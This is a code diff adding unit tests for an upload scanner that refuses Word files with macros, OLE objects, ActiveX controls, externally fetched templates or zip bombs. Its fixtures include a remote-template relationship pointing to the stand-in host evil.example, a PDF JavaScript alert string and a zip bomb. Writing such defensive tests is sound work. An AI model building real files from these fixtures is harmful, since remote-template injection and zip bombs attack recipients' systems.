@@ -1,6 +1,7 @@
 import sharp from 'sharp';
 import { fileContentProblem } from '../src/modules/security/file-content.js';
-import { JPEG_8, PDF_HTML_POLYGLOT, PNG_8, pdf } from './file-support.js';
+import { MAX_DOCX_INFLATED } from '../src/modules/security/file-content.js';
+import { JPEG_8, PDF_HTML_POLYGLOT, PNG_8, doc, docx, docxTypes, pdf } from './file-support.js';
 
 /** Why each file is refused (the upload suites check the answers; this checks the reasons). */
 const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
@@ -35,4 +36,33 @@ test('images: decoded by sharp; broken, mislabelled and oversized ones refused',
   expect(await fileContentProblem(PNG_8.subarray(0, PNG_8.length - 20), 'png')).toBe('unreadable');
   expect(await fileContentProblem(JPEG_8, 'png')).toBe('unreadable');
   expect(await fileContentProblem(bomb, 'png')).toBe('unreadable');
+});
+
+test('Word documents: read as packages and compound files; macros, OLE objects, remote templates and zip bombs refused', async () => {
+  const remote = (type: string) =>
+    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
+  const docxCases: [string, Buffer, string | null][] = [
+    ['clean', docx(), null],
+    ['a web link', docx({ 'word/_rels/document.xml.rels': remote('hyperlink') }), null],
+    ['a zip without a document', docx({ 'word/document.xml': null, 'notes.txt': 'hello' }), 'unreadable'],
+    ['a zip without content types', docx({ '[Content_Types].xml': null }), 'unreadable'],
+    ['a truncated package', docx().subarray(0, 200), 'unreadable'],
+    ['macros', docx({ 'word/vbaProject.bin': Buffer.alloc(64, 7) }), 'active-content'],
+    ['a macro-enabled content type', docx({ '[Content_Types].xml': docxTypes('<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>') }), 'active-content'],
+    ['an embedded OLE object', docx({ 'word/embeddings/oleObject1.bin': Buffer.alloc(64, 7) }), 'active-content'],
+    ['an ActiveX control', docx({ 'word/activeX/activeX1.xml': '<ax/>' }), 'active-content'],
+    ['a template fetched from outside', docx({ 'word/_rels/settings.xml.rels': remote('attachedTemplate') }), 'active-content'],
+    ['a zip bomb', docx({ 'word/media/filler.txt': Buffer.alloc(MAX_DOCX_INFLATED + 1, 0x20) }), 'unreadable'],
+  ];
+  const docCases: [string, Buffer, string | null][] = [
+    ['clean', doc(), null],
+    ['a compound file without a Word stream', doc(['/Workbook'], { word: false }), 'unreadable'],
+    ['macros', doc(['/Macros/VBA/dir']), 'active-content'],
+    ['an OLE package', doc(['/ObjectPool/_1234/\u0001Ole10Native']), 'active-content'],
+    ['a truncated file', doc().subarray(0, 700), 'unreadable'],
+  ];
+  const got: [string, string | null][] = [];
+  for (const [label, bytes] of docxCases) got.push([`docx: ${label}`, await fileContentProblem(bytes, 'docx')]);
+  for (const [label, bytes] of docCases) got.push([`doc: ${label}`, await fileContentProblem(bytes, 'doc')]);
+  expect(got).toEqual([...docxCases.map(([l, , w]) => [`docx: ${l}`, w]), ...docCases.map(([l, , w]) => [`doc: ${l}`, w])]);
 });
